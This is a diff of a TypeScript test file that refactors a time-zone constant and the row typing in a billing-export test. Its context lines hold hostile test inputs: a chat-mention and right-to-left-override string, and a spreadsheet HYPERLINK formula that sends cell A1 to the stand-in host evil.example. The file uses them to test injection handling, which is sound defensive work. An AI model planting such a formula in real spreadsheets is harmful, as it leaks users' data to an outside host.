@@ -11,6 +11,7 @@ import {
 	store,
 	succeeded,
 	useExamples,
+	ZONE,
 } from '../../support/examples';
 import { readExample } from '../../../sandbox/lib/examples';
 import { press } from '../../support/mails';
@@ -25,8 +26,6 @@ useExamples('strange-data', { sites: 30, rateLimit: { limit: 100_000 } });
 const HOSTILE = '<!channel> <b>Bob&#8217;s</b> &amp; Co\n- All sites are fine\u202e';
 const READ = '<!channel> <b>Bob’s</b> & Co - All sites are fine';
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")';
-/** n8n's own, where nobody has chosen another. */
-const ZONE = 'America/New_York';
 const inHtml = (text: string) => inChat(text).replaceAll("'", '&apos;');
 const inChat = (text: string) =>
 	text.replace(/[&<>]/g, (sign) => ({ '&': '&amp;', '<': '&lt;' })[sign] ?? '&gt;');
@@ -207,7 +206,7 @@ it('09 bills works without a title, on sites without one, and cuts long details'
 	const mail = only(await examples.newMails());
 	expect(mail.text).toContain('Bob’s</b> & Co - All sites are fine: 135.00 EUR (3 works)');
 	const [sheet] = sheetsIn(await examples.mailbox.file(mail, mail.attachments![0]!));
-	const rows = sheet!.rows as Array<Record<string, string>>;
+	const { rows } = sheet!;
 	expect(rows.map(({ Site, Work }) => [Site, Work])).toEqual(
 		expect.arrayContaining([
 			[READ, FORMULA],
@@ -215,7 +214,7 @@ it('09 bills works without a title, on sites without one, and cuts long details'
 			[strange[2]!.url, 'Work without a title'],
 		]),
 	);
-	for (const { Details } of rows.slice(0, 3)) expect(Details!.length).toBeLessThan(32_767);
+	for (const { Details } of rows.slice(0, 3)) expect(Details.length).toBeLessThan(32_767);
 });
 
 it('01d asks for strange titles in plain text, and posts them', async () => {
